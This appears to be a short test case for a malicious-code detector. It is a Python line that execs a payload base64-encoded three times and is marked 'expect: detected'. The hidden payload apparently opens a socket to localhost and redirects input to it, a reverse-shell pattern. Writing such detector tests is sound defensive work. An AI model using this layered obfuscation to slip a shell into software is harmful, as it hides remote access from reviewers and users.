# tries: run a program that is wrapped three times
# expect: detected
from base64 import b64decode as d

exec(d(d(d("WVZjeGQySXpTakJKU0U1MldUSjBiR1JEZUhaamVuUjZVRmhPZGxreWRHeGtRelY2WWpKT2NscFlVVzlMVkhSNlRHMU9kbUp0Tld4Wk0xRnZTME5KZUUxcVkzVk5RelIzVEdwRmFVeEVhM0JMVkhSMlkzazFhMlJZUVhsTFNFMTFXbTFzYzFwWE5YWkxRMnR6VFVOclBRPT0="))))
